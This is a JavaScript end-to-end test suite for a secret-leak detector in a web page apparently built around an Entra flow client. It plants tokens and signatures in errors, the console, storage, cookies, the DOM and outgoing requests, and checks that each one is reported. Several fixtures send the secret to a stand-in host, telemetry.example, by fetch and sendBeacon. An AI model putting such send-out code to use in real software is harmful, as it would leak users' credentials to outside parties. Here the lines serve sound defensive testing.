/** The watch itself: a secret that is planted in any place is found there, and what is meant to carry one is none. */
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { openPage, patient } from "../e2e/page.mjs";

let e2e;
let token;
let signature;
before(async () => {
  e2e = await openPage();
}, patient);
beforeEach(async () => {
  await e2e.as("ada");
  await e2e.open();
  await e2e.page.waitForFunction(() => window.e2e);
  token = await e2e.sandbox.mint();
  signature = new URL(anyone()).searchParams.get("sig");
  assert.deepEqual(await e2e.secrets.leaks(), [], "nothing has leaked before");
}, patient);
// What was planted goes with its page, and is seen for the last time here: the hook after each test finds nothing.
afterEach(() => e2e.open(), patient);
after(() => e2e?.close());

const anyone = () => e2e.sandbox.flow("anyone").triggerUrl();

/** Plants `secret` in the page by `plant`, and expects it to be found in these places, and cleaned up by `clean`. */
function planted(name, places, plant, clean = () => undefined) {
  test(`found in ${name}`, patient, async () => {
    for (const secret of [token, signature]) {
      await e2e.page.evaluate(plant, secret);
      const found = await e2e.secrets.leaks();
      await e2e.page.evaluate(clean);
      await e2e.secrets.leaks();
      for (const place of places) {
        const hit = found.find((one) => one.startsWith(`${place}: `));
        assert.ok(hit, `${place}: not among ${JSON.stringify(found)}`);
        assert.ok(!hit.includes(secret), "the report keeps the secret to itself");
      }
    }
  });
}

const fail = (make) => `(secret) => window.e2e.settle(() => { throw (${make})(secret); })`;
const errors = {
  "an error's message": (secret) => new Error(`no: ${secret}`),
  "an error's stack": (secret) => Object.assign(new Error("no"), { stack: `at ${secret}` }),
  "an error's members": (secret) => Object.assign(new Error("no"), { a: { b: [secret] } }),
  "an error's hidden members": (secret) =>
    Object.defineProperty(new Error("no"), "data", { value: { url: secret }, enumerable: false }),
  "an error's cause": (secret) => new Error("no", { cause: new Error("why", { cause: secret }) }),
  "an error's failures": (secret) =>
    Object.assign(new Error("no"), { failures: [{ error: new Error(secret) }] }),
  "an error's issues": (secret) =>
    Object.assign(new Error("no"), { issues: [{ message: secret }] }),
  "an error's JSON": (secret) => Object.assign(new Error("no"), { toJSON: () => ({ secret }) }),
  "an error's headers": (secret) =>
    Object.assign(new Error("no"), { headers: new Headers({ location: secret }) }),
};
for (const [name, make] of Object.entries(errors)) {
  planted(name, ["error"], new Function(`return ${fail(make)}`)());
}
planted("a report", ["outcome"], (secret) =>
  window.e2e.settle(() => ({ checks: [{ detail: `see ${secret}` }] })),
);
planted("an event", ["event"], async (secret) => {
  const { onEvent } = await new Promise((found) => {
    const { fromXrm } = window.EntraFlow.FlowClient;
    window.EntraFlow.FlowClient.fromXrm = (_auth, options) => {
      window.EntraFlow.FlowClient.fromXrm = fromXrm;
      found(options);
      return { clearCache() {} };
    };
    window.e2e.client();
  });
  onEvent({ type: "token", url: secret });
});
planted("the console", ["console"], (secret) => console.log("text", secret));
planted("an object in the console", ["console"], (secret) =>
  console.debug({ deep: { er: [{ and: { deeper: new Error("", { cause: { secret } }) } }] } }),
);
planted("an error that nobody caught", ["uncaught"], (secret) => {
  setTimeout(() => {
    throw new Error(secret);
  });
  return new Promise((passed) => setTimeout(passed, 100));
});
planted(
  "the timeline",
  ["timeline"],
  (secret) =>
    performance.measure("entra-flow: invoke", { start: 0, end: 1, detail: { url: secret } }),
  () => performance.clearMeasures(),
);
planted(
  "the registry",
  ["window: entra-flow/page/1"],
  async (secret) => {
    await window.e2e.client();
    window["entra-flow/page/1"].urls.set("key", `https://x.logic.azure.com/?x=${secret}`);
  },
  () => window["entra-flow/page/1"].urls.clear(),
);
planted(
  "a symbol of the window",
  ["window: Symbol(entra-flow)"],
  (secret) => {
    window[Symbol.for("entra-flow")] = { secret };
  },
  () => delete window[Symbol.for("entra-flow")],
);
planted(
  "the document",
  ["document"],
  (secret) => document.body.setAttribute("data-state", secret),
  () => document.body.removeAttribute("data-state"),
);
planted(
  "a field",
  ["document"],
  (secret) => {
    document.body.append(document.createElement("input"));
    document.querySelector("input").value = secret;
  },
  () => document.querySelector("input").remove(),
);
planted(
  "a shadow tree",
  ["document"],
  (secret) => {
    const host = document.createElement("div");
    host.attachShadow({ mode: "open" }).append(secret);
    document.body.append(host);
  },
  () => document.querySelector("div").remove(),
);
for (const storage of ["localStorage", "sessionStorage"]) {
  planted(
    storage,
    [`${storage}: entra-flow.token`],
    new Function("secret", `${storage}.setItem("entra-flow.token", btoa(secret))`),
    new Function(`${storage}.removeItem("entra-flow.token")`),
  );
}
planted(
  "a cookie",
  ["cookie"],
  (secret) => {
    Reflect.set(document, "cookie", `t=${secret}`);
  },
  () => {
    Reflect.set(document, "cookie", "t=; max-age=0");
  },
);
planted(
  "a database",
  ["indexedDB: ours.rows"],
  (secret) =>
    new Promise((done, failed) => {
      const opening = indexedDB.open("ours", 1);
      opening.onerror = failed;
      opening.onupgradeneeded = () => opening.result.createObjectStore("rows").put(secret, 1);
      opening.onsuccess = () => {
        opening.result.close();
        done();
      };
    }),
  () =>
    new Promise((done, failed) => {
      const deleting = indexedDB.deleteDatabase("ours");
      deleting.onsuccess = done;
      deleting.onerror = failed;
    }),
);
planted(
  "the history",
  ["history.state"],
  (secret) => history.replaceState({ secret }, ""),
  () => history.replaceState({}, ""),
);

const toStranger = {
  "a stranger's URL": ["URL", (secret) => fetch(`https://telemetry.example/?t=${btoa(secret)}`)],
  "a stranger's header": [
    "header authorization",
    (secret) =>
      fetch("https://telemetry.example/", { headers: { authorization: `Bearer ${secret}` } }),
  ],
  "a stranger's body": [
    "body",
    (secret) => fetch("https://telemetry.example/", { method: "POST", body: `{"t":"${secret}"}` }),
  ],
  "a beacon": ["body", (secret) => navigator.sendBeacon("https://telemetry.example/", secret)],
};
for (const [name, [part, send]] of Object.entries(toStranger)) {
  const plant = new Function(
    `return async (secret) => { await (async () => (${send})(secret))().catch(() => undefined); await new Promise((passed) => setTimeout(passed, 200)); }`,
  )();
  planted(name, [`request to unknown telemetry.example, ${part}`], plant, () =>
    performance.clearResourceTimings(),
  );
}
planted(
  "the org's own requests",
  ["request to dataverse contoso.crm4.dynamics.com, header authorization"],
  (secret) =>
    fetch("/api/data/v9.2/WhoAmI", { headers: { authorization: `Bearer ${secret}` } }).then(
      () => undefined,
    ),
);
planted(
  "a flow's URL, but for the parameter sig",
  ["request to trigger prod-42.westeurope.logic.azure.com, URL"],
  (secret) =>
    fetch(`https://prod-42.westeurope.logic.azure.com/x?token=${secret}`)
      .catch(() => undefined)
      // The timeline has it a little later.
      .then(() => new Promise((passed) => setTimeout(passed, 200))),
  () => performance.clearResourceTimings(),
);

test("not found: a token and a signature where they belong", patient, async () => {
  await e2e.get((id) => window.e2e.call({ flow: id }), e2e.id("echo"));
  await e2e.get(
    (id) => window.e2e.call({ flow: id, client: { sas: "allow" }, body: {} }),
    e2e.id("anyone"),
  );
  assert.deepEqual(await e2e.secrets.leaks(), []);
  assert.ok(e2e.sandbox.requests.some(({ bearer }) => bearer));
  assert.ok(e2e.sandbox.requests.some(({ query }) => query.sig));
});

test("every kind of secret that the sandbox issues is known", patient, async () => {
  const known = await e2e.page.evaluate(() =>
    Object.entries(sessionStorage)
      .filter(([key]) => /accesstoken|idtoken|refreshtoken/.test(key))
      .map(([key, value]) => [key.match(/accesstoken|idtoken|refreshtoken/)[0], JSON.parse(value)]),
  );
  const secrets = Object.fromEntries(known.map(([kind, { secret }]) => [kind, secret]));
  assert.deepEqual(Object.keys(secrets).sort(), ["accesstoken", "idtoken", "refreshtoken"]);
  for (const [kind, secret] of Object.entries(secrets)) {
    assert.ok(e2e.sandbox.secrets.has(secret), kind);
  }
});
